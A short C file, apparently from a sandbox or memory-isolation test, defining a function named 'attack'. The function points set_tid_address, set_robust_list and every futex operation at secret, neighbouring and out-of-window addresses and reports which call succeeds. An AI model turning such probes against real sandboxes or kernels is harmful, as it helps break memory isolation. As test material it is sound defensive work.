#define _GNU_SOURCE
#include <sys/syscall.h>
#include <unistd.h>
#define FUTEX_WAIT 0
#define FUTEX_PRIVATE_FLAG 128
long attack(long secret, long neighbour, long window)
{
    long places[] = {secret, neighbour, window + 0x10000, window - 4, 0, -4L};
    for (unsigned i = 0; i < sizeof places / sizeof *places; i++) {
        long at = places[i];
        syscall(SYS_set_tid_address, at);
        syscall(SYS_set_robust_list, at, 24L);
        for (long operation = 0; operation < 13; operation++)
            if (syscall(SYS_futex, at, operation | FUTEX_PRIVATE_FLAG, 1L, 0L, at, 1L) > 0 || syscall(SYS_futex, at, operation, 1L, 0L, at, 1L) > 0)
                return 100 * (i + 1) + operation;
    }
    return 0;
}
